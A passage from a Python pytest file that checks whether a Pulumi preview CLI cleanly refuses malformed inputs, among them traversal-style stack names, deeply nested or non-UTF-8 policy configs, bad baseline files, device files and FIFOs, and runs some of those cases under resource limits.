        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        return ["--stack", "dev", "--policy-config", str(path)]

    return arguments


def _previous_outputs(text: str) -> Callable[[Path], list[str]]:
    def arguments(tmp_path: Path) -> list[str]:
        path = tmp_path / "outputs.json"
        path.write_text(text)
        return ["--stack", "dev", "--previous-outputs", str(path)]

    return arguments


def _baseline(text: str | None) -> Callable[[Path], list[str]]:
    def arguments(tmp_path: Path) -> list[str]:
        folder = tmp_path / "baseline"
        folder.mkdir()
        if text is not None:
            (folder / "resources.json").write_text(text)
        return ["--stack", "dev", "--baseline", str(folder)]

    return arguments


def _out_is_a_file(tmp_path: Path) -> list[str]:
    (tmp_path / "taken").write_text("")
    return ["--stack", "dev", "--out", str(tmp_path / "taken")]


def _fifo(tmp_path: Path) -> list[str]:
    """A named pipe nobody writes to: opening it would block for ever."""
    os.mkfifo(tmp_path / "pipe.yaml")
    return ["--stack", "test", "--config-file", str(tmp_path / "pipe.yaml")]


def _missing_stack_file(tmp_path: Path) -> list[str]:
    return ["--stack", "test", "--config-file", str(tmp_path / "nothing.yaml")]


RESOURCE = {"urn": "urn:pulumi:s::p::t::n", "type": "t", "name": "n", "inputs": {}}

# (id, the command-line arguments it builds in a folder of its own, what the message must name)
CLI_CASES: list[tuple[str, Callable[[Path], list[str]], str]] = [
    ("stack-name-a-path", lambda _: ["--stack", "../../../tmp/x"], "--stack '../../../tmp/x' is not a stack name"),
    ("stack-name-empty", lambda _: ["--stack", ""], "--stack '' is not a stack name"),
    ("stack-name-newline", lambda _: ["--stack", "dev\n"], "is not a stack name"),
    ("out-is-a-file", _out_is_a_file, "is a file, not a folder"),
    ("missing-stack-file", _missing_stack_file, "no stack file"),
    ("policy-config-not-json", _policy_config("all: advisory"), "cannot read the policy config"),
    ("policy-config-a-list", _policy_config('["all"]'), "the policy config must be"),
    ("policy-config-a-string", _policy_config('"advisory"'), "the policy config must be"),
    ("policy-config-not-utf8", _policy_config(b'{"all": "\xff"}'), "cannot read the policy config"),
    ("policy-config-deep", _policy_config("[" * 100_000 + "]" * 100_000), "cannot read the policy config"),
    ("policy-config-bad-level", _policy_config('{"all": "sometimes"}'), "policy config 'all'"),
    ("policy-config-a-number", _policy_config('{"all": 3}'), "policy config 'all'"),
    ("baseline-an-object", _baseline('{"resources": []}'), "resources.json holds dict, not a list"),
    ("baseline-strings", _baseline('["urn:a"]'), "resources.json[0] is not a resource"),
    ("baseline-no-urn", _baseline(json.dumps([{"type": "t", "name": "n", "inputs": {}}])), "resources.json[0] is not a resource"),
    ("baseline-inputs-a-list", _baseline(json.dumps([{**RESOURCE, "inputs": []}])), "resources.json[0].inputs is not a mapping"),
    ("baseline-not-json", _baseline("{"), "cannot read the baseline"),
    ("previous-outputs-not-json", _previous_outputs("{"), "cannot read the previous outputs"),
    ("previous-outputs-a-list", _previous_outputs("[]"), "holds list, not the stack's outputs"),
    ("previous-posture-a-string", _previous_outputs('{"securityPosture": "open"}'), "securityPosture is str, not a mapping"),
    (
        "previous-posture-models-a-list",
        _previous_outputs('{"securityPosture": {"models": ["llama-1b"]}}'),
        "securityPosture.models: is list, not a mapping of models",
    ),
    (
        "previous-posture-production-a-string",
        _previous_outputs('{"securityPosture": {"production": "no"}}'),
        "securityPosture.production: is str, not true or false",
    ),
    ("baseline-missing", _baseline(None), "the baseline: cannot read"),
    (
        "stack-file-a-device",
        lambda _: ["--stack", "test", "--config-file", "/dev/zero"],
        "cannot read /dev/zero: not a regular file",
    ),
    ("stack-file-a-folder", lambda tmp_path: ["--stack", "test", "--config-file", str(tmp_path)], "not a regular file"),
    ("stack-file-a-fifo", _fifo, "not a regular file"),
    (
        "policy-config-a-device",
        lambda _: ["--stack", "dev", "--policy-config", "/dev/zero"],
        "the policy config: cannot read /dev/zero: not a regular file",
    ),
]


def test_at_least_a_hundred_cases():
    assert len(TEXT_CASES) + len(VALUE_CASES) + len(CLI_CASES) >= 100


def _main(arguments: list[str], capsys) -> tuple[int, str]:
    from preview.cli import main

    code = main(["--quiet", *arguments])
    return code, capsys.readouterr().err


def _refused(code: int, stderr: str, key: str) -> None:
    assert code == 2, stderr
    assert key in stderr, stderr
    assert "Traceback" not in stderr


@pytest.mark.parametrize("case, text, key", TEXT_CASES, ids=[c[0] for c in TEXT_CASES])
def test_hostile_stack_file(tmp_path, capsys, case: str, text: str | bytes, key: str):
    stack = tmp_path / "Pulumi.test.yaml"
    stack.write_bytes(text if isinstance(text, bytes) else text.encode())
    out = tmp_path / "out"
    code, stderr = _main(["--stack", "test", "--config-file", str(stack), "--out", str(out)], capsys)
    _refused(code, stderr, key)
    assert not out.exists()


def _stack_text(stack: str, mutate: Callable[[dict[str, Any]], None]) -> str:
    raw = copy.deepcopy(raw_stack(stack))
    mutate(raw)
    return yaml.safe_dump({"config": {f"{PROJECT}:{key}": value for key, value in raw.items()}}, sort_keys=False)


@pytest.mark.parametrize("case, stack, mutate, key", VALUE_CASES, ids=[c[0] for c in VALUE_CASES])
def test_mistaken_config_value(tmp_path, case: str, stack: str, mutate: Callable[[dict[str, Any]], None], key: str):
    """The stack file read as the CLI reads it, then the program run under the mock engine: the
    `pulumi.RunError` it raises is what the CLI reports with exit 2 (test_refused_through_the_cli)."""
    from platform_config.errors import ConfigError
    from preview.engine import evaluate
    from preview.stack_config import load_project, load_stack_config

    path = tmp_path / "Pulumi.test.yaml"
    path.write_text(_stack_text(stack, mutate))
    config = load_stack_config(load_project(ROOT), "test", path)
    with pytest.raises(pulumi.RunError) as refused:
        evaluate(ROOT, config)
    assert isinstance(refused.value, ConfigError)
    issues = [str(issue) for issue in refused.value.issues]
    full_key = key if key.startswith(f"{PROJECT}:") else f"{PROJECT}:{key}"
    assert any(issue.startswith(full_key + ":") for issue in issues), issues


@pytest.mark.parametrize("case, arguments, key", CLI_CASES, ids=[c[0] for c in CLI_CASES])
def test_hostile_command_line(tmp_path, capsys, case: str, arguments: Callable[[Path], list[str]], key: str):
    argv = arguments(tmp_path)
    if "--out" not in argv:
        argv += ["--out", str(tmp_path / "out")]
    code, stderr = _main(argv, capsys)
    _refused(code, stderr, key)


def test_pydantic_patterns_do_not_end_before_a_trailing_newline():
    """Field(pattern=...) runs in pydantic-core's Rust regex engine, where `$` is the end of the
    text: pinned here because Python's `re` would let 'name\\n' through."""
    from pydantic import ValidationError

    from platform_config.models import MigGeometry

    with pytest.raises(ValidationError):
        MigGeometry.model_validate({"name": "mix\n", "devices": [{"gpus": 1}]})
    assert MigGeometry.model_validate({"name": "mix", "devices": [{"gpus": 1}]}).name == "mix"


# The cases that crashed or hung before, once more through the real CLI, with a stack at every size
# bound the config allows: each a process of its own with a memory limit and 30 s of CPU (the
# kernel stops it past that: a bound on the work, whatever else the machine runs), all at once.
CLI_SUBSET = {
    "file-is-a-list",
    "integer-key",
    "not-utf8",
    "recursive-alias-list",
    "deep-brackets",
    "binary-tag",
    "set-tag",
    "timestamp-tag",
    "billion-laughs",
    "duplicate-canary-weight",
    "huge-integer",
}
VALUE_SUBSET = {
    "mig-count-10e12",
    "stable-a-list-with-weights",
    "server-names-collide-across-tenants",
    "huggingface-non-ascii",
}
MEMORY_LIMIT = 1 << 30
# A whole preview's address space: the SDK's and gRPC's threads each reserve their stacks and arenas.
PREVIEW_MEMORY_LIMIT = 4 << 30
CPU_SECONDS = 30
TIMEOUT_SECONDS = 60


def _limits(memory: int) -> Callable[[], None]:
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
        resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS))

    return limit


def _at_every_bound(raw: dict[str, Any]) -> None:
    """Every node group, the system one included, at EKS's quota of nodes."""
    for pool in raw["nodePools"]:
        pool["maxSize"] = EKS_NODES_PER_NODE_GROUP
    raw["cluster"]["eks"]["systemNodeGroup"] = {
        **raw["cluster"]["eks"].get("systemNodeGroup", {}),
        "maxSize": EKS_NODES_PER_NODE_GROUP,
    }


def test_refused_through_the_cli(tmp_path):
    stacks: list[tuple[str, bytes, str]] = [
        (case, text if isinstance(text, bytes) else text.encode(), key) for case, text, key in TEXT_CASES if case in CLI_SUBSET
    ]
    stacks += [
        (case, _stack_text(stack, mutate).encode(), key) for case, stack, mutate, key in VALUE_CASES if case in VALUE_SUBSET
    ]
    assert len(stacks) == len(CLI_SUBSET) + len(VALUE_SUBSET)
    # Accepted, and previewed clean: exit 0, no key to name.
    stacks.append(("at-every-bound", _stack_text("prod", _at_every_bound).encode(), ""))
    running = []
    for case, text, key in stacks:
        path = tmp_path / f"{case}.yaml"
        path.write_bytes(text)
        command = [sys.executable, "-m", "preview", "--quiet", "--stack", "test", "--config-file", str(path)]
        command += ["--out", str(tmp_path / case)]
        process = subprocess.Popen(
            command,
            cwd=ROOT,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            preexec_fn=_limits(MEMORY_LIMIT if key else PREVIEW_MEMORY_LIMIT),
        )
        running.append((case, key, process))
    failures = []
    for case, key, process in running:
        try:
            _, stderr = process.communicate(timeout=TIMEOUT_SECONDS)
        except subprocess.TimeoutExpired:
            process.kill()
            process.communicate()
            failures.append(f"{case}: no answer within {TIMEOUT_SECONDS} s")
            continue
        expected = 2 if key else 0
        if process.returncode != expected or key not in stderr or "Traceback" in stderr:
            failures.append(f"{case}: exit {process.returncode}: {stderr[-400:]}")
    assert failures == []


def test_a_python_without_the_requirements_is_told_how_to_run_the_preview():
    """`python -m preview` with an interpreter that lacks the pinned packages (here: no site
    packages at all) says what to run instead, with exit 2 and no traceback."""
    result = subprocess.run(
        [sys.executable, "-S", "-m", "preview", "--stack", "dev"], cwd=ROOT, capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr and "run `make preview`" in result.stderr


def test_closing_the_packs_channel_never_hangs(monkeypatch):
    """Closing the channel waits for its calls' threads; a preview that crashed for want of threads would
    wait for ever (seen under a 1 GiB address-space limit: grpc Channel._close in Condition.wait), so the
    wait is bounded and the process ends after it."""
    import threading

    from preview import policy_runner

    stuck = threading.Event()

    class StuckChannel:
        def close(self) -> None:
            stuck.wait()

    monkeypatch.setattr(policy_runner, "CHANNEL_CLOSE_SECONDS", 0.05)
    policy_runner.PolicyPack._close_channel(StuckChannel())  # type: ignore[arg-type]
    assert not stuck.is_set()
    stuck.set()
